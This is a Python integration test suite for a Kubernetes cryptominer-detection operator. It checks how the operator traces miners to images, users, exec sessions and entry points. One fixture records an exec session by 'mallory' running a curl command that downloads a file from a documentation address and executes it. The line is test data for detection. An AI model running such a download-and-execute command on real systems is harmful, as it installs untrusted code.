"""Each detection becomes an investigation: the real operator (kopf) on kmock, a real registry.

The registry is Debian's ``docker-registry`` on loopback holding images with real config
histories and labels; the exec-session trace is an Event on the pod as the webhook writes it;
the created-by stamp is the annotation the mutating webhook writes. Nothing is mocked.
"""

from __future__ import annotations

import base64
import functools
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import orjson
import pytest
from kubernetes import client

from minerguard.api.investigation import (
    EXEC_SESSION_ANNOTATION,
    EXEC_SESSION_REASON,
    Actor,
    ExecSession,
)
from minerguard.timestamps import now, parse_time
from minerguard_operator.decide.investigation import UNGUARDED_SESSIONS
from tests.integration.operator.harness import Cluster, running
from tests.integration.webhook import oci
from tests.kube_emulator import EmulatorThread
from tests.support import wait_for

pytestmark = pytest.mark.slow

DELETE_AND_STOP = {"runtime": ["Alert", "StopOwner", "DeletePod"], "podDeletionGraceSeconds": 0}
ALERT = {"runtime": ["Alert"]}
MINER = (b"#!/bin/sh\nwhile :; do :; done\n", 0o755)
NODE_INFO = {
    "operatingSystem": "linux",
    "architecture": "amd64",
    "bootID": "b",
    "containerRuntimeVersion": "containerd://2.0.0",
    "kernelVersion": "6.12.0",
    "kubeProxyVersion": "",
    "kubeletVersion": "v1.32.0",
    "machineID": "m",
    "osImage": "Debian GNU/Linux 13",
    "systemUUID": "s",
}
"""A Node's status.nodeInfo as a kubelet reports it (the client's model wants every field)."""
OFFLINE = "127.0.0.1:9/example/app:1"
"""An image no registry serves: the address policy refuses loopback, so nothing is contacted."""


@dataclass(frozen=True)
class Registries:
    """One storage served twice: openly, and behind token auth (``private/`` needs a login)."""

    open: oci.Registry
    private: oci.Registry
    tokens: oci.TokenServer


@pytest.fixture(scope="module")
def registries(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Registries]:
    """Loopback registries for the whole module (images are pushed by each test)."""
    if not Path(oci.BINARY).exists():
        pytest.skip("docker-registry is not installed (apt-get install -y docker-registry)")
    folder = tmp_path_factory.mktemp("investigation-registry")
    (folder / "storage").mkdir()
    with (
        oci.TokenServer(folder, {"puller": "pull-secret-pw"}) as tokens,
        oci.Registry(folder / "storage", folder) as started,
        oci.Registry(folder / "storage", folder, tokens) as private,
    ):
        yield Registries(started, private, tokens)


@pytest.fixture
def registry(registries: Registries) -> oci.Registry:
    """The open one."""
    return registries.open


def reads(registry_host: str, **overrides: Any) -> dict[str, Any]:
    """Operator settings that let it read the loopback registry (the SSRF guard denies it)."""
    values: dict[str, Any] = {
        "investigate": True,
        "registry_insecure": [registry_host],
        "registry_allowed_networks": ["127.0.0.0/8"],
        "registry_timeout": 2.0,
    }
    values.update(overrides)
    return values


def investigation(
    cluster: Cluster, name: str, namespace: str = "apps", timeout: float = 20.0
) -> dict[str, Any]:
    """The detection's status.investigation once written."""

    def written() -> dict[str, Any] | None:
        found = cluster.detection_status(name, namespace).get("investigation")
        return dict(found) if found else None

    return wait_for(written, timeout, what=f"the investigation of {name}")


def stamped_deployment(
    cluster: Cluster, name: str, image: str, digest: str, who: Actor
) -> tuple[dict[str, Any], dict[str, Any], dict[str, Any]]:
    """Deployment (created-by stamp) -> ReplicaSet -> Pod running ``image`` at ``digest``."""
    deployment = cluster.deployment(name, image=image)
    cluster.apps.patch_namespaced_deployment(
        name, "apps", {"metadata": {"annotations": {"minerguard.io/created-by": who.stamp()}}}
    )
    replica_set = cluster.replica_set(f"{name}-7d9f", deployment)
    pod = cluster.pod(
        f"{name}-7d9f-abcde",
        owner=replica_set,
        labels={"app": name},
        image=image,
        image_id=digest,
    )
    return deployment, replica_set, pod


def exec_event(cluster: Cluster, pod: dict[str, Any], session: ExecSession) -> None:
    """The Event the webhook records on a pod for a ``kubectl exec`` CONNECT."""
    metadata = pod["metadata"]
    cluster.core.create_namespaced_event(
        metadata["namespace"],
        {
            "apiVersion": "v1",
            "kind": "Event",
            "metadata": {
                "generateName": f"{metadata['name']}.",
                "annotations": {EXEC_SESSION_ANNOTATION: orjson.dumps(session.to_k8s()).decode()},
            },
            "involvedObject": {
                "kind": "Pod",
                "name": metadata["name"],
                "namespace": metadata["namespace"],
                "uid": metadata["uid"],
                "apiVersion": "v1",
            },
            "reason": EXEC_SESSION_REASON,
            "message": f"exec by {session.username}: {' '.join(session.command)}",
            "type": "Normal",
            "source": {"component": "minerguard"},
        },
    )


# -- what happened --------------------------------------------------------------------------


def test_a_foreign_image_a_named_user_applied_is_traced_to_them_and_its_owner_is_stopped(
    kube: EmulatorThread, cluster: Cluster, registry: oci.Registry
) -> None:
    digest, _ = oci.push_image(registry.url, "tools/xmrig", tag="6.21", entrypoint=["/app"])
    image = f"{registry.host}/tools/xmrig:6.21"
    cluster.namespace("apps")
    cluster.policy(actions=DELETE_AND_STOP, trustedRegistries=["registry.example.com/acme/"])
    alice = Actor(username="alice", groups=["devs"], operation="CREATE", time=now())
    _, _, pod = stamped_deployment(cluster, "web", image, digest, alice)
    with running(kube.url, **reads(registry.host, creator_stamps_trusted=True)):
        cluster.detection(
            "miner-1",
            pod["metadata"]["name"],
            layer="Exec",
            image=image,
            imageDigest=digest,
            evidence={"executable": "/usr/bin/xmrig", "executableOrigin": "Image", "entry": "Init"},
        )
        found = investigation(cluster, "miner-1")
    assert not cluster.exists("Pod", pod["metadata"]["name"])  # the response came first
    assert found["origin"] == "Foreign"
    assert found["via"] == "Apply"
    assert found["provenance"]["workloadCreatedBy"]["username"] == "alice"
    assert found["image"]["trusted"] is False
    assert found["image"]["digest"] == digest
    paths = {(p["kind"], p["name"]): p for p in found["restartPaths"]}
    assert paths[("Deployment", "web")]["state"] == "Stopped"
    assert "scaled 3->0" in (paths[("Deployment", "web")].get("response") or "")
    assert found["cost"]["apiCalls"] > 0
    assert found["cost"]["registryCalls"] > 0


def test_our_image_whose_newer_tag_adds_a_miner_layer_names_the_layer_and_the_tags(
    kube: EmulatorThread, cluster: Cluster, registry: oci.Registry
) -> None:
    base = [
        {"created": "2026-11-01T10:00:00Z", "created_by": "/bin/sh -c #(nop) ADD file:app in /"},
        {"created": "2026-11-01T10:00:01Z", "created_by": 'CMD ["/app"]', "empty_layer": True},
    ]
    labels = {
        "org.opencontainers.image.source": "https://git.example.com/acme/web",
        "org.opencontainers.image.revision": "0123abcd",
    }
    oci.push_image(registry.url, "acme/web", tag="1.0", history=base, labels=labels)
    bad = [
        *base,
        {
            "created": "2026-11-20T03:00:00Z",
            "created_by": "/bin/sh -c #(nop) COPY file:abc in /usr/local/bin/xmrig",
        },
    ]
    tampered: dict[str, Any] = {
        "history": bad,
        "labels": labels,
        "more_layers": [{"usr/local/bin/xmrig": MINER}],
    }
    digest, _ = oci.push_image(registry.url, "acme/web", tag="1.1", **tampered)
    again, _ = oci.push_image(registry.url, "acme/web", tag="latest", **tampered)
    assert again == digest
    image = f"{registry.host}/acme/web:1.1"
    cluster.namespace("apps")
    cluster.policy(actions=ALERT, trustedRegistries=[f"{registry.host}/acme/"])
    pod = cluster.pod("web-1", image=image, image_id=digest)
    with running(kube.url, **reads(registry.host)):
        cluster.detection(
            "miner-2",
            pod["metadata"]["name"],
            layer="Exec",
            evidence={"executable": "/usr/local/bin/xmrig", "executableOrigin": "Image"},
        )
        found = investigation(cluster, "miner-2")
    assert found["origin"] == "Ours"
    assert found["image"]["trusted"] is True
    suspects = [step for step in found["image"]["history"] if step.get("suspect")]
    assert suspects
    assert all("xmrig" in step["createdBy"] for step in suspects)
    assert sorted(found["image"]["tags"]) == ["1.1", "latest"]
    assert found["image"]["labels"]["org.opencontainers.image.revision"] == "0123abcd"
    tags = [p for p in found["restartPaths"] if p["relation"] == "registry-tag"]
    assert {p["name"] for p in tags} >= {"1.1", "latest"} or all(
        any(t in p["name"] for t in ("1.1", "latest")) for p in tags
    )
    assert tags
    assert all(p.get("remedy") for p in tags)


def test_a_miner_started_through_kubectl_exec_is_traced_to_the_exec_user(
    kube: EmulatorThread, cluster: Cluster, registry: oci.Registry
) -> None:
    digest, _ = oci.push_image(registry.url, "acme/api", tag="2.0")
    image = f"{registry.host}/acme/api:2.0"
    cluster.namespace("apps")
    cluster.policy(actions=ALERT, trustedRegistries=[f"{registry.host}/acme/"])
    pod = cluster.pod("api-1", image=image, image_id=digest)
    command = ["sh", "-c", "curl -so /tmp/x http://203.0.113.9/x && /tmp/x"]
    session = ExecSession(
        username="mallory",
        groups=["contractors"],
        time=now(),
        container="main",
        command=command,
        tty=False,
    )
    exec_event(cluster, pod, session)
    with running(kube.url, **reads(registry.host)):
        cluster.detection(
            "miner-3",
            "api-1",
            layer="Exec",
            evidence={
                "pid": 4242,
                "executable": "/tmp/x",
                "commandLine": "/tmp/x",
                "entry": "Exec",
                "executableOrigin": "Downloaded",
                "downloadedBy": "curl",
                "lineage": [
                    {"pid": 4200, "executable": "/bin/sh", "commandLine": " ".join(command)}
                ],
            },
        )
        found = investigation(cluster, "miner-3")
    assert found["via"] == "Exec"
    assert found["provenance"]["execSession"]["username"] == "mallory"
    assert found["provenance"]["execSession"]["command"] == command
    assert found["origin"] == "Runtime"


# -- bad input ------------------------------------------------------------------------------


def test_a_registry_that_hangs_leaves_a_partial_investigation_within_its_bound(
    kube: EmulatorThread, cluster: Cluster
) -> None:
    with oci.HangingServer() as hanging:
        image = f"{hanging.host}/acme/web:1"
        digest = "sha256:" + "cd" * 32
        cluster.namespace("apps")
        cluster.policy(actions=ALERT, trustedRegistries=[f"{hanging.host}/acme/"])
        cluster.pod("web-1", image=image, image_id=digest)
        with running(kube.url, **reads(hanging.host, registry_timeout=1.0)):
            cluster.detection("miner-4", "web-1")
            found = investigation(cluster, "miner-4", timeout=15)
            status = cluster.settled("miner-4")
    assert status["phase"] == "Alerted"
    # The response did not wait for the registry: it was done before the investigation began.
    assert (parse_time(status["actedAt"]) or 0) <= (parse_time(found["startedAt"]) or 0)
    assert found["state"] == "Partial"
    assert any("registry" in u for u in found["unknowns"])
    assert found["image"]["digest"] == digest


def test_investigations_stuck_on_a_registry_hold_back_no_response(
    kube: EmulatorThread, cluster: Cluster
) -> None:
    with oci.HangingServer() as hanging:
        image = f"{hanging.host}/acme/web:1"
        cluster.namespace("apps")
        cluster.policy(actions=DELETE_AND_STOP, trustedRegistries=[f"{hanging.host}/acme/"])
        names = [f"web-{index}" for index in range(4)]
        for name in names:
            cluster.pod(name, image=image, image_id="sha256:" + "ef" * 32)
        settings = reads(hanging.host, registry_timeout=3.0, investigation_workers=1)
        with running(kube.url, **settings):
            for index, name in enumerate(names):
                cluster.detection(f"miner-{index}", name)
            # One investigation at a time, each held 3 s by the registry: 12 s for all four.
            # Every response is done long before the investigations are.
            for index in range(len(names)):
                assert cluster.settled(f"miner-{index}", timeout=8)["phase"] == "Acted"
            assert not all(
                cluster.detection_status(f"miner-{index}").get("investigation")
                for index in range(len(names))
            )
            assert not any(cluster.exists("Pod", name) for name in names)


def test_a_missing_owner_is_said_and_the_rest_is_still_investigated(
    kube: EmulatorThread, cluster: Cluster, registry: oci.Registry
) -> None:
    digest, _ = oci.push_image(registry.url, "acme/batch", tag="3")
    image = f"{registry.host}/acme/batch:3"
    cluster.namespace("apps")
    cluster.policy(actions=ALERT, trustedRegistries=[f"{registry.host}/acme/"])
    ghost = {
        "apiVersion": "apps/v1",
        "kind": "ReplicaSet",
        "metadata": {"name": "batch-5c4", "uid": "00000000-0000-0000-0000-000000000000"},
    }
    cluster.pod("batch-5c4-x", owner=ghost, image=image, image_id=digest)
    with running(kube.url, **reads(registry.host)):
        cluster.detection("miner-5", "batch-5c4-x")
        found = investigation(cluster, "miner-5")
    assert found["state"] == "Partial"
    assert any("ReplicaSet/batch-5c4" in u and "no longer exists" in u for u in found["unknowns"])
    assert found["image"]["digest"] == digest


def test_a_pod_deleted_before_the_operator_ran_is_investigated_from_its_owner(
    kube: EmulatorThread, cluster: Cluster, registry: oci.Registry
) -> None:
    digest, _ = oci.push_image(registry.url, "tools/miner", tag="1")
    image = f"{registry.host}/tools/miner:1"
    cluster.namespace("apps")
    cluster.policy(actions=ALERT)
    deployment, _, pod = stamped_deployment(
        cluster, "job", image, digest, Actor(username="bob", operation="CREATE")
    )
    owner = {
        "apiVersion": "apps/v1",
        "kind": "Deployment",
        "name": "job",
        "uid": deployment["metadata"]["uid"],
    }
    cluster.detection(
        "miner-6", pod["metadata"]["name"], image=image, imageDigest=digest, owner=owner
    )
    cluster.core.delete_namespaced_pod(pod["metadata"]["name"], "apps")
    with running(kube.url, **reads(registry.host, creator_stamps_trusted=True)):
        found = investigation(cluster, "miner-6")
    assert any("no longer exists" in u for u in found["unknowns"])
    assert ("Deployment", "job") in {(p["kind"], p["name"]) for p in found["restartPaths"]}
    assert found["provenance"]["workloadCreatedBy"]["username"] == "bob"
    assert found["image"]["digest"] == digest


def test_a_detection_for_a_pod_that_never_existed_is_said_not_guessed(
    kube: EmulatorThread, cluster: Cluster
) -> None:
    cluster.namespace("apps")
    cluster.policy(actions=ALERT)
    with running(kube.url, investigate=True, registry_timeout=1.0):
        cluster.detection("miner-7", "ghost-pod", image=OFFLINE)
        found = investigation(cluster, "miner-7")
    assert found["state"] in ("Partial", "Failed")
    assert any("ghost-pod" in u for u in found["unknowns"])
    assert found["via"] == "Unknown"


def test_a_folded_duplicate_is_not_investigated(kube: EmulatorThread, cluster: Cluster) -> None:
    cluster.namespace("apps")
    cluster.policy(actions=ALERT, retention={"dedupWindowSeconds": 600})
    cluster.pod("p1", image=OFFLINE)
    with running(kube.url, investigate=True, registry_timeout=1.0) as operator:
        cluster.detection("first", "p1")
        investigation(cluster, "first")
        cluster.detection("again", "p1")
        wait_for(lambda: cluster.get_detection("again") is None, what="folded")
        wait_for(
            lambda: cluster.detection_status("first").get("occurrences") == 2, what="occurrences"
        )
        metrics = operator.runtime.state.metrics.registry
        written = sum(
            sample.value
            for metric in metrics.collect()
            if metric.name == "minerguard_operator_investigations"
            for sample in metric.samples
            if sample.name.endswith("_total")
        )
    assert written == 1


def test_a_restart_investigates_what_was_missed_and_never_redoes_an_investigation(
    kube: EmulatorThread, cluster: Cluster
) -> None:
    cluster.namespace("apps")
    cluster.policy(actions=ALERT)
    cluster.pod("p1", image=OFFLINE)
    with running(kube.url, investigate=False):
        cluster.detection("missed", "p1")
        cluster.settled("missed")
    assert "investigation" not in cluster.detection_status("missed")
    with running(kube.url, investigate=True, registry_timeout=1.0):
        first = investigation(cluster, "missed")
    with running(kube.url, investigate=True, registry_timeout=1.0):
        cluster.detection("later", "p1", signal="cpu-saturation")
        investigation(cluster, "later")
        assert cluster.detection_status("missed")["investigation"] == first


def test_an_exposed_service_and_an_account_that_may_create_pods_are_listed_as_entry_points(
    kube: EmulatorThread, cluster: Cluster, registry: oci.Registry
) -> None:
    digest, _ = oci.push_image(registry.url, "acme/shop", tag="4")
    image = f"{registry.host}/acme/shop:4"
    cluster.namespace("apps")
    cluster.policy(actions=ALERT, trustedRegistries=[f"{registry.host}/acme/"])
    builder = "system:serviceaccount:apps:builder"
    kube.answer_access_reviews(
        lambda spec: (
            spec.get("user") == builder
            and (spec.get("resourceAttributes") or {}).get("resource") == "pods"
            and (spec.get("resourceAttributes") or {}).get("verb") == "create"
            and not (spec.get("resourceAttributes") or {}).get("subresource")
        )
    )
    cluster.core.create_namespaced_service(
        "apps",
        {
            "apiVersion": "v1",
            "kind": "Service",
            "metadata": {"name": "shop"},
            "spec": {
                "type": "LoadBalancer",
                "selector": {"app": "shop"},
                "ports": [{"port": 80, "targetPort": 8080, "nodePort": 30080}],
            },
        },
    )
    rbac: Any = client.RbacAuthorizationV1Api(cluster.api)
    rbac.create_cluster_role_binding(
        {
            "apiVersion": "rbac.authorization.k8s.io/v1",
            "kind": "ClusterRoleBinding",
            "metadata": {"name": "open-door"},
            "roleRef": {
                "apiGroup": "rbac.authorization.k8s.io",
                "kind": "ClusterRole",
                "name": "view",
            },
            "subjects": [
                {
                    "kind": "Group",
                    "name": "system:unauthenticated",
                    "apiGroup": "rbac.authorization.k8s.io",
                }
            ],
        }
    )
    cluster.core.create_namespaced_pod(
        "apps",
        {
            "apiVersion": "v1",
            "kind": "Pod",
            "metadata": {"name": "shop-1", "labels": {"app": "shop"}},
            "spec": {
                "serviceAccountName": "builder",
                "containers": [{"name": "main", "image": image}],
            },
            "status": {
                "containerStatuses": [
                    {
                        "name": "main",
                        "image": image,
                        "imageID": f"{image}@{digest}",
                        "ready": True,
                        "restartCount": 0,
                    }
                ]
            },
        },
    )
    with running(kube.url, **reads(registry.host)):
        cluster.detection("miner-8", "shop-1")
        found = investigation(cluster, "miner-8")
    doors = {(e["kind"], e["name"]): e for e in found["entryPoints"]}
    assert any(kind == "Service" and "shop" in name for kind, name in doors)
    accounts = [e for (kind, _), e in doors.items() if kind == "ServiceAccount"]
    assert accounts
    assert any("create" in e["detail"] and "pods" in e["detail"] for e in accounts)
    assert any(kind == "AnonymousBinding" and "open-door" in name for kind, name in doors)
    assert all(e["remedy"] for e in found["entryPoints"])


def test_pull_secrets_are_read_only_when_the_operator_is_told_to(
    kube: EmulatorThread, cluster: Cluster, registries: Registries
) -> None:
    private = registries.private.host
    digest, _ = oci.push_image(registries.open.url, "private/miner", tag="1")
    image = f"{private}/private/miner:1"
    cluster.namespace("apps")
    cluster.policy(actions=ALERT, trustedRegistries=[f"{private}/private/"])
    auths = {"auths": {private: {"username": "puller", "password": "pull-secret-pw"}}}
    cluster.core.create_namespaced_secret(
        "apps",
        {
            "apiVersion": "v1",
            "kind": "Secret",
            "metadata": {"name": "pull"},
            "type": "kubernetes.io/dockerconfigjson",
            "data": {".dockerconfigjson": base64.b64encode(orjson.dumps(auths)).decode()},
        },
    )
    for name in ("anonymous", "with-secret"):
        cluster.core.create_namespaced_pod(
            "apps",
            {
                "apiVersion": "v1",
                "kind": "Pod",
                "metadata": {"name": name, "labels": {"app": name}},
                "spec": {
                    "imagePullSecrets": [{"name": "pull"}],
                    "containers": [{"name": "main", "image": image}],
                },
            },
        )
    insecure = [private, registries.tokens.host]
    with running(kube.url, **reads(private, registry_insecure=insecure)):
        cluster.detection("miner-9", "anonymous", imageDigest=digest)
        refused = investigation(cluster, "miner-9")
    with running(kube.url, **reads(private, registry_insecure=insecure, read_pull_secrets=True)):
        cluster.detection("miner-10", "with-secret", imageDigest=digest)
        read = investigation(cluster, "miner-10")
    assert refused["image"]["tags"] == []
    assert any(private in u or "registry" in u for u in refused["unknowns"])
    assert read["image"]["tags"] == ["1"]
    assert read["image"]["trusted"] is True


def test_a_workload_recorded_by_a_scan_is_investigated_from_its_template(
    kube: EmulatorThread, cluster: Cluster, registry: oci.Registry
) -> None:
    digest, _ = oci.push_image(registry.url, "tools/scanned", tag="1")
    image = f"{registry.host}/tools/scanned:1"
    cluster.namespace("apps")
    cluster.policy(actions=ALERT)
    cluster.deployment("batch", image=image)
    with running(kube.url, **reads(registry.host)):
        cluster.detection(
            "scan-1", "batch", objectKind="Deployment", layer="Admission", mode="Audit"
        )
        found = investigation(cluster, "scan-1")
    assert ("Deployment", "batch") in {(p["kind"], p["name"]) for p in found["restartPaths"]}
    assert found["image"]["image"] == image
    assert found["image"]["digest"] == digest  # the tag, read now (said as Likely)
    assert not any("pod template (the pod itself" in u for u in found["unknowns"])


# -- reading it from kubectl ----------------------------------------------------------------


def test_kubectl_describe_shows_the_investigation_summary_as_an_event_on_the_detection(
    kube: EmulatorThread, cluster: Cluster, registry: oci.Registry
) -> None:
    """``kubectl describe md`` sorts the status's fields; its Events come last, in full."""
    digest, _ = oci.push_image(registry.url, "acme/desc", tag="1")
    image = f"{registry.host}/acme/desc:1"
    cluster.namespace("apps")
    cluster.policy(actions=ALERT, trustedRegistries=[f"{registry.host}/acme/"])
    cluster.pod("desc-1", image=image, image_id=digest)
    cluster.pod("desc-2", image=OFFLINE)
    with running(kube.url, **reads(registry.host)):
        cluster.detection("miner-read", "desc-1")
        cluster.detection("miner-offline", "desc-2")
        read = investigation(cluster, "miner-read")
        offline = investigation(cluster, "miner-offline")

        def posted(name: str) -> dict[str, Any] | None:
            found = cluster.events("apps", reason="Investigated", name=name)
            return found[0] if found else None

        events = {
            name: wait_for(functools.partial(posted, name), 10, what=f"the Event on {name}")
            for name in ("miner-read", "miner-offline")
        }
    for name, found in (("miner-read", read), ("miner-offline", offline)):
        event = events[name]
        assert event["involvedObject"]["kind"] == "MinerDetection"
        assert event["message"] == found["summary"]
        assert event["type"] == ("Normal" if found["state"] == "Complete" else "Warning")
    assert offline["state"] != "Complete"


# -- multi-arch images ----------------------------------------------------------------------


def test_an_index_digest_is_read_for_the_platform_of_the_node_that_ran_it(
    kube: EmulatorThread, cluster: Cluster, registry: oci.Registry
) -> None:
    """The pod's imageID is the index; the history that matters is the one its node pulled."""

    def built(arch: str) -> list[dict[str, Any]]:
        return [{"created": "2026-11-01T10:00:00Z", "created_by": f"ADD rootfs-{arch}.tar /"}]

    platforms = {
        arch: oci.push_image(registry.url, "acme/multi", arch=arch, history=built(arch))
        for arch in ("amd64", "arm64")
    }
    index = oci.push_index(registry.url, "acme/multi", "1", platforms)
    image = f"{registry.host}/acme/multi:1"
    cluster.namespace("apps")
    cluster.policy(actions=ALERT, trustedRegistries=[f"{registry.host}/acme/"])
    cluster.core.create_node(
        {
            "apiVersion": "v1",
            "kind": "Node",
            "metadata": {"name": "arm-node"},
            "status": {"nodeInfo": {**NODE_INFO, "architecture": "arm64"}},
        }
    )
    cluster.pod("multi-1", image=image, image_id=index)
    cluster.pod("multi-2", image=image, image_id=index)
    with running(kube.url, **reads(registry.host)):
        cluster.detection("miner-arm", "multi-1", node="arm-node")
        cluster.detection("miner-nowhere", "multi-2")
        on_arm = investigation(cluster, "miner-arm")
        nowhere = investigation(cluster, "miner-nowhere")
    assert [step["createdBy"] for step in on_arm["image"]["history"]] == [
        built("arm64")[0]["created_by"]
    ]
    assert on_arm["image"]["confidence"] == "Certain"
    assert not any("another platform" in u for u in on_arm["unknowns"])
    # No node known: linux/amd64 is read, and said to be a guess.
    assert [step["createdBy"] for step in nowhere["image"]["history"]] == [
        built("amd64")[0]["created_by"]
    ]
    assert nowhere["image"]["confidence"] == "Likely"


# -- what the chart tells the operator it may believe ---------------------------------------


def test_an_exec_session_is_a_claim_unless_the_cluster_lets_only_the_webhook_record_it(
    kube: EmulatorThread, cluster: Cluster
) -> None:
    """exec_sessions_guarded (the chart's policy rendered and denying) reaches the decision."""
    cluster.namespace("apps")
    cluster.policy(actions=ALERT)
    command = ["sh", "-c", "/tmp/x"]
    found = {}
    for guarded in (False, True):
        name = f"api-{str(guarded).lower()}"
        pod = cluster.pod(name, image=OFFLINE)
        session = ExecSession(
            username="mallory", time=now(), container="main", command=command, tty=False
        )
        exec_event(cluster, pod, session)
        with running(kube.url, investigate=True, exec_sessions_guarded=guarded):
            cluster.detection(
                f"miner-{name}",
                name,
                layer="Exec",
                evidence={
                    "pid": 4242,
                    "executable": "/tmp/x",
                    "entry": "Exec",
                    "executableOrigin": "WrittenAfterStart",
                    "commandLine": "/tmp/x",
                    "lineage": [
                        {"pid": 4200, "executable": "/bin/sh", "commandLine": " ".join(command)}
                    ],
                },
            )
            found[guarded] = investigation(cluster, f"miner-{name}")
    for guarded, report in found.items():
        assert report["provenance"]["execSession"]["username"] == "mallory"
        assert (UNGUARDED_SESSIONS in report["unknowns"]) is not guarded
